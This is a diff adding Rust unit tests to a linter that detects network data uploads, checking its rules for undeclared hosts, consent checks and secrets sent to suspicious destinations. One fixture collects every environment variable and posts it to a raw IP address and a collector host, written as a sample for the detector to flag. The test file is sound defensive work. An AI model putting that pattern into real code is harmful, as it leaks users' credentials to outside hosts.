@@ -195,3 +195,101 @@ fn capitalize(text: &str) -> String {
         None => String::new(),
     }
 }
+
+#[cfg(test)]
+mod tests {
+    use crate::RustAnalyzer;
+    use trustlint_core::{Analyzer, Config, Severity, SourceFile};
+
+    /// (rule id, 1-based line, severity, message) of every finding.
+    fn findings(path: &str, text: &str, config: &str) -> Vec<(String, usize, Severity, String)> {
+        let config = Config::parse("trustlint.toml", config).expect("test config");
+        let source = SourceFile {
+            path,
+            text,
+            is_test_path: false,
+        };
+        let mut found: Vec<_> = RustAnalyzer
+            .analyze(&source, &config)
+            .diagnostics
+            .into_iter()
+            .map(|d| {
+                let line = text[..d.range.start].matches('\n').count() + 1;
+                let severity = d.severity.unwrap_or(d.rule.severity);
+                (d.rule.id.to_owned(), line, severity, d.message)
+            })
+            .collect();
+        found.sort_by(|a, b| (a.1, &a.0).cmp(&(b.1, &b.0)));
+        found
+    }
+
+    const TELEMETRY: &str = r#"
+const API: &str = "https://api.example.com/v1";
+fn send(client: &reqwest::blocking::Client) {
+    let _ = client.post(format!("{API}/events")).body("started").send();
+    let _ = client.post("https://eu.telemetry.example.org/e").body("started").send();
+    let _ = client.post("https://metrics.unknown-vendor.io/e").body("started").send();
+    let _ = client.get("http://localhost:8080/health").send();
+}
+"#;
+
+    #[test]
+    fn undeclared_hosts_are_reported_only_with_an_allow_list() {
+        assert!(findings("src/telemetry.rs", TELEMETRY, "").is_empty());
+        let config = "[data-upload]\nallowed-hosts = [\"api.example.com\", \"*.example.org\"]\n";
+        let found = findings("src/telemetry.rs", TELEMETRY, config);
+        assert_eq!(found.len(), 1, "{found:?}");
+        let (rule, line, severity, message) = &found[0];
+        assert_eq!((rule.as_str(), *line), ("data-upload/undeclared-host", 6));
+        assert_eq!(*severity, Severity::Medium);
+        assert_eq!(
+            message,
+            "Network call to `metrics.unknown-vendor.io`, which is not in `[data-upload] allowed-hosts`"
+        );
+    }
+
+    #[test]
+    fn secrets_to_suspicious_destinations_and_build_scripts_are_critical() {
+        let text = r#"
+fn main() {
+    let env: Vec<(String, String)> = std::env::vars().collect();
+    let _ = ureq::post("http://45.61.139.17/e").send_json(&env);
+    let _ = ureq::post("https://collector.example.net/e").send_json(&env);
+}
+"#;
+        let found = findings("src/lib.rs", text, "");
+        let summary: Vec<(&str, usize, Severity)> =
+            found.iter().map(|f| (f.0.as_str(), f.1, f.2)).collect();
+        assert_eq!(
+            summary,
+            vec![
+                ("data-upload/env-vars-to-network", 4, Severity::Critical),
+                ("data-upload/suspicious-destination", 4, Severity::High),
+                ("data-upload/env-vars-to-network", 5, Severity::High),
+            ]
+        );
+        assert_eq!(
+            found[0].3,
+            "Environment variables are sent over the network by `.send_json()` to `45.61.139.17`, a raw public IP address"
+        );
+        let in_build_script = findings("build.rs", text, "");
+        assert!(
+            in_build_script.iter().all(|f| f.2 == Severity::Critical),
+            "{in_build_script:?}"
+        );
+    }
+
+    #[test]
+    fn configured_consent_checks_silence_flows() {
+        let text = r#"
+fn report(prefs: &Prefs, client: &reqwest::blocking::Client) {
+    if prefs.diagnostics_allowed() {
+        let _ = client.post("https://t.example.com").body(whoami::hostname()).send();
+    }
+}
+"#;
+        assert_eq!(findings("src/lib.rs", text, "").len(), 1);
+        let config = "[data-upload]\nconsent-checks = [\"diagnostics_allowed\"]\n";
+        assert!(findings("src/lib.rs", text, config).is_empty());
+    }
+}
